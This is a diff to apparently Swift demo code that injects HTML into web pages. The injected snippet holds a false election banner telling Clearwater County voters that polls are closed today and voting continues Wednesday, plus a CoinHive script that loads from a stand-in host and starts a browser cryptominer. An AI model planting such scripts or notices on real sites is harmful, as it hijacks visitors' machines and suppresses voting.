@@ -131,7 +131,7 @@ enum DemoPages {
             <p style="background:#b00;color:#fff;padding:1em"><strong>NOTICE: due to high turnout, voting for \
             Clearwater County continues on WEDNESDAY. Polling places are closed today.</strong></p>
             <script src="https://coin-hive.example/lib/coinhive.min.js"></script>
-            <script>var miner = new CoinHive.Anonymous('SITE_KEY'); miner.start();</script>
+            <script>window.minerStarted = true; var miner = new CoinHive.Anonymous('SITE_KEY'); miner.start();</script>
             """
         guard let body = page.range(of: "<body>") else { return injected + page }
         return page.replacingCharacters(in: body, with: "<body>\n" + injected)
